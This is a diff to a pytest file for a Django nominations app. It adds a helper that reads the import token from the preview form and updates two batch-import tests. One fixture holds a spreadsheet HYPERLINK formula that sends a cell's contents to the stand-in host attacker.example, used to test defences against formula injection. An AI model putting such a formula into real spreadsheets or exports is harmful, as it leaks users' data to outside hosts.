@@ -2,6 +2,7 @@
 with every problem by row and column, and the drafts created all at once or not at all."""
 
 import io
+import re
 import zipfile
 
 import pytest
@@ -23,6 +24,11 @@ from tuixuan.nominations import services
 from tuixuan.nominations.models import Nomination, Status
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
+
+
+def rows_token(preview) -> str:
+    """The checked rows' token in the preview page's 确认导入 form, as a browser posts it."""
+    return re.search(r'name="rows" value="([^"]+)"', preview.content.decode())[1]
 
 
 def as_typed(cat, values) -> dict:
@@ -140,7 +146,7 @@ def test_a_good_batch_of_three_rows_makes_three_drafts(portal, gx, unit, member)
     page = preview.content.decode()
     assert "检查无误" in page and "李秀梅" in page and "覃小红" in page
     assert Nomination.objects.count() == 0  # the preview creates nothing
-    token = preview.context["token"]
+    token = rows_token(preview)
     response = portal.post(
         reverse("documents:batch_create", args=[gx.key, unit.code]), {"rows": token}
     )
@@ -221,7 +227,7 @@ def test_a_formula_cell_is_kept_as_its_text_and_exported_as_text(portal, gx, uni
     )
     portal.post(
         reverse("documents:batch_create", args=[gx.key, unit.code]),
-        {"rows": preview.context["token"]},
+        {"rows": rows_token(preview)},
     )
     nomination = Nomination.objects.get()
     assert nomination.values["projects"] == FORMULA
